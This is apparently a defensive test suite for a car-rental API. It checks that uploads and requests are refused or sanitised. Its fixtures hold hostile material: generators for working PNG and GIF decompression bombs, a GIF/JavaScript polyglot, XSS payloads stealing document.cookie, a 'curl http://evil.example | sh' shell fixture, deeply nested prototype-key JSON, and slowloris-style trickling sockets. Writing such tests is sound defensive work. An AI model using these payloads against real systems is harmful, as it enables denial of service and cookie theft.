/**
 * Hostile uploads and hostile requests: files that lie about what they are, files built to exhaust
 * memory, bodies over the limit or nested without end, and clients that send slowly. Each is
 * refused with a sentence, or (for an image hiding something) stored only as a clean re-encoded
 * WebP; nothing is written for a refusal; and no such request keeps other customers waiting.
 */
import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { createDeflate, crc32 } from 'node:zlib';
import { API, MAX_UPLOAD_BYTES, MESSAGES } from '@rental/contract';
import type { LightMyRequestResponse } from 'fastify';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { authHeader, createOwner, createTestApp, describeDatabase, type Account, type TestApp } from './helpers';
import { everyRow } from './support/everyRow';
import { carForm } from './support/fleet';
import { SVG } from './support/images';
import { type FilePart, multipart } from './support/multipart';

// ---------- files ----------
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A real decompression bomb: a valid greyscale PNG of side x side pixels, all black, whose IDAT
 * really holds every row. About 100 KB on the wire for 100 megapixels.
 */
async function realPixelBomb(side: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  const row = Buffer.alloc(side + 1); // filter byte 0, then black pixels
  const rowsPerWrite = Math.max(1, Math.floor((1 << 20) / row.length));
  const block = Buffer.concat(Array.from({ length: rowsPerWrite }, () => row));
  for (let written = 0; written < side; written += rowsPerWrite) {
    const rows = Math.min(rowsPerWrite, side - written);
    if (!deflate.write(rows === rowsPerWrite ? block : block.subarray(0, rows * row.length))) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8;
  header[9] = 0;
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.concat(chunks)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A GIF whose header claims 65535 x 65535 pixels (4.3 gigapixels) in 40 bytes. */
function gifBomb(): Buffer {
  return Buffer.from([
    ...Buffer.from('GIF89a'),
    0xff,
    0xff,
    0xff,
    0xff,
    0x80,
    0,
    0,
    0,
    0,
    0,
    0xff,
    0xff,
    0xff,
    0x2c,
    0,
    0,
    0,
    0,
    0xff,
    0xff,
    0xff,
    0xff,
    0,
    2,
    2,
    0x44,
    0x01,
    0,
    0x3b,
  ]);
}

/**
 * Valid as a GIF and as JavaScript: the width bytes are "/*", the script after the image closes
 * the comment. Served as-is from the site's own origin, it could be loaded as a script.
 */
function gifJavascriptPolyglot(): Buffer {
  return Buffer.concat([
    Buffer.from('GIF89a/*', 'latin1'), // width 0x2a2f
    Buffer.from([0x0a, 0x00, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff]), // height 10, 2-colour table
    Buffer.from([0x2c, 0, 0, 0, 0, 0x01, 0, 0x01, 0, 0, 2, 2, 0x44, 0x01, 0, 0x3b]), // 1x1 image, trailer
    Buffer.from('*/=alert(document.cookie);//<script>alert(1)</script>', 'latin1'),
  ]);
}

const PAYLOAD_MARKERS = ['<script', 'alert(', '<html', '<?php', 'javascript:'];

// ---------- requests ----------
let t: TestApp;
let owner: Account;
let photo: Buffer;

beforeAll(async () => {
  t = await createTestApp();
  owner = await createOwner(t.app);
  photo = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#2563eb' } })
    .jpeg()
    .toBuffer();
});
afterAll(async () => {
  await t?.close();
});

type Target = 'add-car' | 'update-image';
async function upload(target: Target, files: FilePart[]): Promise<LightMyRequestResponse> {
  const fields: Record<string, string> = target === 'add-car' ? { carData: JSON.stringify(carForm()) } : {};
  const form = await multipart(fields, files);
  return t.app.inject({
    method: 'POST',
    url: target === 'add-car' ? API.addCar : API.updateImage,
    headers: { ...authHeader(owner.token), ...form.headers },
    payload: form.payload,
  });
}
const file = (bytes: Buffer, filename = 'car.png', type = 'image/png'): FilePart => ({ name: 'image', bytes, filename, type });

/** The stored picture of an accepted upload: car image or profile image. */
function storedUrl(target: Target, res: LightMyRequestResponse): string {
  return target === 'add-car' ? res.json().car.image : res.json().image;
}

describe(`hostile uploads (${describeDatabase})`, () => {
  const refusedFiles: Array<[string, () => Promise<FilePart[]> | FilePart[], number, string]> = [
    ['a script renamed .png', () => [file(Buffer.from('<script>fetch("/api/owner/dashboard")</script>'))], 400, MESSAGES.imageInvalid],
    [
      'a shell script renamed .jpg',
      () => [file(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'car.jpg', 'image/jpeg')],
      400,
      MESSAGES.imageInvalid,
    ],
    ['an SVG with a script', () => [file(SVG, 'car.svg', 'image/svg+xml')], 400, MESSAGES.imageInvalid],
    ['an SVG with a script, named .png', () => [file(Buffer.concat([Buffer.from('<?xml version="1.0"?>'), SVG]), 'car.png')], 400, MESSAGES.imageInvalid],
    ['an HTML page named .webp', () => [file(Buffer.from('<!doctype html><body onload="alert(1)">'), 'car.webp', 'image/webp')], 400, MESSAGES.imageInvalid],
    ['a truncated JPEG', () => [file(photo.subarray(0, Math.floor(photo.length / 2)), 'car.jpg', 'image/jpeg')], 400, MESSAGES.imageInvalid],
    ['a truncated PNG', async () => [file((await sharp(photo).png().toBuffer()).subarray(0, 300))], 400, MESSAGES.imageInvalid],
    ['random bytes', () => [file(randomBytes(4096))], 400, MESSAGES.imageInvalid],
    ['a PNG bomb: 100 megapixels in about 100 KB', async () => [file(await realPixelBomb(10_000))], 400, MESSAGES.imageTooManyPixels],
    ['a GIF bomb: 4.3 gigapixels claimed in 40 bytes', () => [file(gifBomb(), 'car.gif', 'image/gif')], 400, MESSAGES.imageTooManyPixels],
    ['a 30 MB file', () => [file(Buffer.alloc(30 * 1024 * 1024, 0x42))], 413, MESSAGES.imageTooLarge],
  ];

  for (const target of ['add-car', 'update-image'] as const) {
    for (const [name, make, status, message] of refusedFiles) {
      it(`${target}: ${name} is refused (${status}) and nothing is written`, async () => {
        const files = await make();
        const before = await everyRow(t.database.opened.raw);
        const res = await upload(target, files);
        expect(res.statusCode, res.body).toBe(status);
        expect(res.json()).toEqual({ success: false, code: expect.any(String), message });
        expect(await everyRow(t.database.opened.raw)).toEqual(before);
      });
    }

    it(`${target}: two files, a file under another name, or no file: a clear message, nothing written`, async () => {
      const before = await everyRow(t.database.opened.raw);
      const two = await upload(target, [file(photo, 'a.jpg', 'image/jpeg'), file(photo, 'b.jpg', 'image/jpeg')]);
      expect(two.statusCode).toBe(400);
      expect(two.json().message).toMatch(/one image/i);
      const elsewhere = await upload(target, [{ ...file(photo, 'a.jpg', 'image/jpeg'), name: 'photo' }]);
      expect(elsewhere.statusCode).toBe(400);
      expect(elsewhere.json().message).toMatch(/one image/i);
      const none = await upload(target, []);
      expect(none.statusCode).toBe(400);
      expect(none.json().message).toMatch(/image/i);
      expect(await everyRow(t.database.opened.raw)).toEqual(before);
    });

    const polyglots: Array<[string, () => Promise<Buffer>]> = [
      ['a GIF that is also JavaScript', async () => gifJavascriptPolyglot()],
      ['a JPEG with an HTML page appended', async () => Buffer.concat([photo, Buffer.from('<html><script>alert(document.cookie)</script></html>')])],
      [
        'a PNG carrying a script in a text chunk',
        async () => {
          const png = await sharp(photo).png().toBuffer();
          // After the signature (8 bytes) and IHDR (25 bytes).
          return Buffer.concat([
            png.subarray(0, 33),
            pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script> javascript:alert(2)', 'latin1')),
            png.subarray(33),
          ]);
        },
      ],
    ];
    for (const [name, make] of polyglots) {
      it(`${target}: ${name} is refused, or stored only as a clean WebP without the payload`, async () => {
        const bytes = await make();
        const before = await everyRow(t.database.opened.raw);
        const res = await upload(target, [file(bytes, 'car.png')]);
        if (res.statusCode >= 400) {
          expect(res.statusCode).toBe(400);
          expect(res.json()).toEqual({ success: false, code: expect.any(String), message: MESSAGES.imageInvalid });
          expect(await everyRow(t.database.opened.raw)).toEqual(before);
          return;
        }
        expect(res.statusCode, res.body).toBeLessThan(300);
        const served = await t.app.inject({ method: 'GET', url: storedUrl(target, res) });
        expect(served.statusCode).toBe(200);
        expect(served.headers['content-type']).toBe('image/webp');
        expect(served.headers['x-content-type-options']).toBe('nosniff');
        const stored = served.rawPayload;
        expect(stored.subarray(0, 4).toString('latin1')).toBe('RIFF');
        expect(stored.subarray(8, 12).toString('latin1')).toBe('WEBP');
        // The RIFF length covers the whole file: nothing rides along after the picture.
        expect(stored.readUInt32LE(4) + 8).toBe(stored.length);
        const text = stored.toString('latin1');
        for (const marker of PAYLOAD_MARKERS) expect(text).not.toContain(marker);
        expect((await sharp(stored).metadata()).format).toBe('webp');
      });
    }
  }
});

describe(`hostile request bodies (${describeDatabase})`, () => {
  it('a JSON body over the limit is refused with 413 and a sentence', async () => {
    const before = await everyRow(t.database.opened.raw);
    const res = await t.app.inject({
      method: 'POST',
      url: API.register,
      headers: { 'content-type': 'application/json' },
      payload: JSON.stringify({ name: 'x'.repeat(2 * 1024 * 1024), email: 'big@example.com', password: 'long enough' }),
    });
    expect(res.statusCode).toBe(413);
    expect(res.json().success).toBe(false);
    expect(res.json().message).toMatch(/too large/i);
    expect(await everyRow(t.database.opened.raw)).toEqual(before);
  });

  it('carData over its field limit is refused with a sentence', async () => {
    const form = await multipart({ carData: JSON.stringify({ ...carForm(), description: 'x'.repeat(100 * 1024) }) }, [file(photo, 'car.jpg', 'image/jpeg')]);
    const res = await t.app.inject({ method: 'POST', url: API.addCar, headers: { ...authHeader(owner.token), ...form.headers }, payload: form.payload });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({ success: false, code: expect.any(String), message: "The car's details are too long." });
  });

  it('JSON nested hundreds of thousands deep is refused without a 5xx, and the server carries on', async () => {
    const depth = 200_000;
    const bodies = [
      `${'['.repeat(depth)}${']'.repeat(depth)}`,
      `${'{"a":'.repeat(depth / 2)}1${'}'.repeat(depth / 2)}`,
      // A prototype key deep inside makes the parser walk the whole tree looking for it.
      `{"email":"a@b.co","password":"long enough","x":${'{"__proto__":'.repeat(depth / 4)}1${'}'.repeat(depth / 4)}}`,
      `{"email":"a@b.co","password":"long enough","x":${'{"constructor":'.repeat(depth / 4)}{"prototype":1}${'}'.repeat(depth / 4)}}`,
    ];
    for (const payload of bodies) {
      const res = await t.app.inject({ method: 'POST', url: API.login, headers: { 'content-type': 'application/json' }, payload });
      expect(res.statusCode, res.body.slice(0, 200)).toBeGreaterThanOrEqual(400);
      expect(res.statusCode, res.body.slice(0, 200)).toBeLessThan(500);
      expect(res.json().success).toBe(false);
      expect(res.json().message.length).toBeGreaterThan(0);
    }
    expect((await t.app.inject({ method: 'GET', url: '/health' })).statusCode).toBe(200);
  });
});

describe('slow clients', () => {
  it('the server limits how long a request may take, so a trickling client is cut off in the end', () => {
    // Fastify's default is no limit at all; Node's own would then be switched off too.
    expect(t.app.server.requestTimeout).toBeGreaterThan(0);
    expect(t.app.server.requestTimeout).toBeLessThanOrEqual(120_000);
  });

  it('clients that send their headers and then trickle (or never send) the body do not keep others waiting', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const address = t.app.server.address();
    if (!address || typeof address === 'string') throw new Error('no port');
    const port = address.port;
    const slow: Socket[] = [];
    const timers: NodeJS.Timeout[] = [];
    // The server has read the headers of all 20 slow requests (a 'request' event each).
    let seen = 0;
    const allArrived = new Promise<void>((resolve) => {
      const onRequest = () => {
        if (++seen < 20) return;
        t.app.server.off('request', onRequest);
        resolve();
      };
      t.app.server.on('request', onRequest);
    });
    try {
      for (let i = 0; i < 20; i++) {
        const socket = connect(port, '127.0.0.1');
        socket.on('error', () => {});
        slow.push(socket);
        const upload = i % 2 === 0;
        socket.write(
          upload
            ? `POST ${API.addCar} HTTP/1.1\r\nHost: x\r\nAuthorization: ${owner.token}\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: ${MAX_UPLOAD_BYTES}\r\n\r\n--b\r\n`
            : `POST ${API.login} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"email":`,
        );
        // Half trickle a byte every 50 ms, half send nothing more.
        if (i % 4 < 2) timers.push(setInterval(() => socket.write(upload ? 'x' : ' '), 50));
      }
      await allArrived;

      const started = Date.now();
      const answers = await Promise.all([
        fetch(`http://127.0.0.1:${port}/health`),
        fetch(`http://127.0.0.1:${port}${API.cars}`),
        fetch(`http://127.0.0.1:${port}${API.checkAvailability}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ location: 'Waterford, Portmore', pickupDate: '2026-02-30', returnDate: '2026-03-01' }),
        }),
      ]);
      expect(answers.map((a) => a.status)).toEqual([200, 200, 400]);
      // Far below the 60 s the slow clients could hold a connection, with room for a busy machine.
      expect(Date.now() - started).toBeLessThan(10_000);
    } finally {
      for (const timer of timers) clearInterval(timer);
      for (const socket of slow) socket.destroy();
    }
  });
});
